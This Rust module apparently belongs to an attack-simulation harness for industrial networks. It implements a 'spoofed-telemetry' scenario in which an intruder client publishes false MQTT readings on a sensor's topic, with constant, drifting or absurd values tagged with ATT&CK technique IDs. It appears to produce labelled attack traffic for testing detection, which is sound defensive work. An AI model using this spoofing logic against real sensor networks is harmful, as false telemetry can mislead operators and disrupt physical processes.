//! Spoofed telemetry: a stranger publishes on the topic of a sensor, whose own values go on beside his.

use super::{Attack, Needs, moved};
use crate::net::mqtt::{Options, Version};
use crate::stage::{Outcome, Stage};

pub static ATTACK: Attack = Attack {
    name: "spoofed-telemetry",
    about: "publishes false measurements in the name of a sensor",
    technique: moved("T0856", "T1692.002"),
    acceptable: &["T0832", "T0855", "T1692.001", "T0831"],
    grade: "B",
    kind: "fast",
    proto: "mqtt",
    variants: &["constant", "drift", "absurd"],
    needs: Needs::Sockets,
    seconds: [1200, 120, 20],
    run: |stage| Box::pin(run(stage)),
};

async fn run(mut stage: Stage) -> Outcome {
    let intruder = stage.stranger();
    let sensor = stage.sensor();
    let mut client =
        intruder.mqtt(Options::new(Version::V311, format!("py-{:05x}", stage.rng.below(1 << 20)))).await?;
    let (count, pace) = stage.by((60, 20.0), (60, 2.0), (200, 0.1));
    for nth in 0..count {
        let share = f64::from(nth) / f64::from(count);
        let value = sensor.middle
            * match stage.variant {
                "drift" => 1.0 + 0.6 * share,
                "absurd" => stage.rng.within(-50.0, 50.0),
                _ => 1.0,
            };
        let payload = format!("{{\"v\":{value:.3},\"q\":\"good\",\"bat\":88}}");
        client.publish(&sensor.topic, payload.as_bytes(), 0, false).await?;
        client.rest(pace * stage.rng.within(0.9, 1.1)).await?;
    }
    stage.changed(format!("{} in the name of {}", sensor.topic, sensor.client_id));
    client.leave().await;
    Ok(())
}
